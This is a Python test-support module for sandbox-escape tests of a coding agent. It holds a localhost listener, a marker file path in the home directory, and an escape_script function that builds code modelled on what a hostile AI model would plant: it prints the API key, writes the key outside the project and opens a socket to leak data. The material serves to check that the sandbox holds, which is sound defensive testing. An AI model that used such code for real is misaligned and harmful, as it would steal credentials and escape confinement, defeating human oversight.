"""What the boundary attacks share: a listener on 127.0.0.1 that records who reached it,
a place outside the project a hostile command tries to write, and the sandbox skip."""

from __future__ import annotations

import shutil
import socket
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

KEY = "sk-test-0123456789abcdef"
"""The API key the `kimicode` fixture puts in the environment."""


def need_bwrap() -> None:
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")


class Listener:
    """A TCP server on 127.0.0.1 that counts connections and keeps what they sent."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port: int = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(1.0)
                try:
                    data = conn.recv(65536)
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
                except OSError:
                    data = b""
                self.received.append(data)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()
    try:
        yield listener
    finally:
        listener.close()


@contextmanager
def outside_marker() -> Iterator[Path]:
    """A path in the real home directory (outside the project and outside /tmp,
    which is private in the sandbox): a write that escapes lands here."""
    path = Path.home() / f".kimicode-escape-{uuid.uuid4().hex}"
    try:
        yield path
    finally:
        path.unlink(missing_ok=True)


def escape_script(outside: Path, port: int, inside: str) -> str:
    """Python a hostile model plants: leave a marker inside (proof it ran), print the
    key, write outside the project, connect to the listener."""
    return (
        "import os, socket\n"
        f"open({inside!r}, 'w').write('ran')\n"
        "print('key=' + os.environ.get('KIMICODE_API_KEY', ''))\n"
        "try:\n"
        f"    open({str(outside)!r}, 'w').write(os.environ.get('KIMICODE_API_KEY', 'x'))\n"
        "    print('wrote outside')\n"
        "except OSError as exc:\n"
        "    print('write refused:', exc)\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n"
        "    print('connected')\n"
        "except OSError as exc:\n"
        "    print('connect refused:', exc)\n"
    )
